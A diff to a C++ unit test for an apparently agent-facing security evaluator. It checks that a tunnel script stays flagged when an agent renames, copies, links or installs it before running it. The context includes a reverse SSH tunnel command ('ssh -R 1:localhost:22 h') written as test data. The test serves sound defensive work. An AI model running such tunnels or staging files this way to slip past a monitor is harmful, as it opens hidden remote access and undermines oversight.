@@ -19,6 +19,7 @@
 #include "fmt/format.h"
 #include "gtest/gtest.h"
 #include "rewardguard/core/json.h"
+#include "rewardguard/core/strings.h"
 #include "rewardguard/eval/evaluator.h"
 
 namespace rewardguard {
@@ -614,6 +615,30 @@ TEST_F(CrossCallTest, HowTheFileWasMadeDecides) {
                 {"shell", Shell("bash x.sh")}},
                Mode::kShadow);
   EXPECT_TRUE(Names(v).contains("process.remote_code")) << v.reason;
+  // Renamed, copied, linked or installed before it runs, in the same call
+  // or an earlier one: the content goes with it.
+  for (const auto& [move, run] : std::vector<std::pair<const char*, const char*>>{
+           {"mv tmp.sh run.sh", "bash run.sh"},
+           {"cp tmp.sh bin/", "sh bin/tmp.sh"},
+           {"cp tmp.sh a.sh b.sh", "bash b.sh/tmp.sh"},
+           {"ln -s tmp.sh go", "./go"},
+           {"install -m 755 tmp.sh tools/x.sh", "tools/x.sh"}}) {
+    for (bool same_call : {false, true}) {
+      Evaluator e = *Evaluator::Create(*policy_, 1);
+      e.Evaluate(0, ToolCall{"write_file", Write("tmp.sh", std::string(kTunnel) + "\n")});
+      if (!same_call) e.Evaluate(0, ToolCall{"shell", Shell(move)});
+      v = e.Evaluate(0, ToolCall{"shell", Shell(same_call ? StrCat(move, " && ", run) : run)});
+      EXPECT_TRUE(Names(v).contains("net.tunnel")) << move << " / " << run << " -> " << v.reason;
+    }
+  }
+  v = Sequence({{"write_file", Write("tmp.sh", std::string(kTunnel) + "\n")},
+                {"shell", Shell("mv tmp.sh run.sh")},
+                {"shell", Shell("bash run.sh")}});
+  EXPECT_TRUE(Names(v).contains("net.tunnel")) << v.reason;
+  v = Sequence({{"write_file", Write("tmp.sh", std::string(kTunnel) + "\n")},
+                {"shell", Shell("mv tmp.sh run.sh")},
+                {"shell", Shell("bash tmp.sh")}});
+  EXPECT_EQ(v.action, Action::kAllow) << "moved away: " << v.reason;
   // Written, then edited by a tool whose content is not known.
   v = Sequence({{"write_file", Write("x.sh", "ls\n")},
                 {"edit_file", R"({"path": "x.sh", "old": "ls", "new": "ssh -R 1:localhost:22 h"})"},
